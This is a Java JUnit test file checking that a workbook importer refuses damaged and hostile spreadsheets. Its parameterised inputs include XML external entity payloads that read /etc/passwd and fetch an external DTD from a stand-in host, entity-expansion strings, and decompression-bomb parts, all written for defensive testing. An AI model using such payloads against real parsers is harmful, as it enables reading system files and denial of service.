package org.alongside.register.sheet;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Random;
import java.util.Set;

import org.alongside.register.entry.RegisterField;
import org.alongside.register.workbook.WorkbookRefusal;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.alongside.register.sheet.Refusing.*;
import static org.assertj.core.api.Assertions.assertThat;

/** Workbooks that were made to do harm, or that hold no register. */
class RefusedContentTest {

    private final Path folder;

    RefusedContentTest(@TempDir Path folder) {
        this.folder = folder;
    }

    @Test
    void sheetThatEndsInTheMiddle() {
        assertRefused(
                WorkbookRefusal.DAMAGED,
                new WorkbookOnPaper()
                        .part("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row>")
                        .in(folder));
    }

    @ParameterizedTest
    @ValueSource(strings = {"t='s'><v>7</v>", "><v>seven</v>", "r='1A'><v>7</v>", "><v>1E+99999999</v>"})
    void cellThatCannotBe(String cell) {
        assertRefused(
                WorkbookRefusal.DAMAGED,
                new WorkbookOnPaper()
                        .rows("<row r='1'><c " + cell + "</c></row>")
                        .in(folder));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE worksheet [<!ENTITY file SYSTEM 'file:///etc/passwd'>]>",
                "<!DOCTYPE worksheet SYSTEM 'http://192.0.2.1/evil.dtd'>",
                "<?xml version='1.0'?><!-- hidden behind a remark --><!DOCTYPE worksheet>",
                "<!DOCTYPE worksheet [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY % p SYSTEM 'file:///x'>%p;]>"
            })
    void documentType(String start) {
        assertRefused(
                WorkbookRefusal.DOCUMENT_TYPE,
                new WorkbookOnPaper().sheet(start, "&file;").in(folder));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "xl/workbook.xml",
                "[Content_Types].xml",
                "_rels/.rels",
                "xl/sharedStrings.xml",
                "docProps/core.xml"
            })
    void documentTypeInAnyPart(String part) {
        assertRefused(
                WorkbookRefusal.DOCUMENT_TYPE,
                new WorkbookOnPaper().part(part, "<!DOCTYPE x><x/>").in(folder));
    }

    @Test
    void fileThatUnpacksToFarMoreThanItIs() {
        assertRefused(
                WorkbookRefusal.TOO_LARGE,
                new WorkbookOnPaper().part("xl/sharedStrings.xml", zeros(300)).in(folder));
    }

    @Test
    void manyPartsThatUnpackToMuch() {
        var workbook = new WorkbookOnPaper();
        for (var part = 0; part < 2_100; part++) {
            workbook.part("xl/media/" + part + ".png", "x");
        }

        assertRefused(WorkbookRefusal.TOO_LARGE, workbook.in(folder));
    }

    @Test
    void millionDeclaredRows() {
        assertRefused(
                WorkbookRefusal.TOO_MANY_ROWS,
                new WorkbookOnPaper()
                        .sheet("", "<dimension ref='A1:AY1048576'/><sheetData/>")
                        .in(folder));
    }

    @Test
    void rowBeyondReason() {
        assertRefused(
                WorkbookRefusal.TOO_MANY_ROWS,
                new WorkbookOnPaper().rows("<row r='1048576'/>").in(folder));
    }

    @Test
    void millionRowsWithoutNumbers() {
        assertThat(refusal(new WorkbookOnPaper()
                        .part("xl/worksheets/sheet1.xml", RefusedContentTest::millionRows)
                        .in(folder)))
                .isIn(WorkbookRefusal.TOO_MANY_ROWS, WorkbookRefusal.TOO_LARGE);
    }

    @Test
    void workbookWithoutARegister() {
        assertRefused(
                WorkbookRefusal.NO_REGISTER_SHEET,
                new WorkbookOnPaper().sheetNamed("Holiday rota").in(folder));
    }

    @Test
    void missingHeadingsAreNamed() {
        var opening = open(new WorkbookOnPaper()
                .rows(WorkbookOnPaper.row(1, "Ref", "Patient", "DOB"))
                .in(folder));

        assertThat(opening)
                .isEqualTo(new RegisterOpening.Refused(WorkbookRefusal.NO_HEADINGS, Set.of(RegisterField.NHS_NUMBER)));
    }

    private static WorkbookOnPaper.Part zeros(int megabytes) {
        return out -> {
            for (var i = 0; i < megabytes; i++) {
                out.write(new byte[1 << 20]);
            }
        };
    }

    private static void millionRows(OutputStream out) throws IOException {
        var random = new Random(1);
        out.write("<worksheet><sheetData>".getBytes(StandardCharsets.UTF_8));
        for (var i = 0; i < 1_000_000; i++) {
            out.write(("<row><c><v>" + random.nextInt() + "</v></c></row>").getBytes(StandardCharsets.UTF_8));
        }
        out.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
    }
}
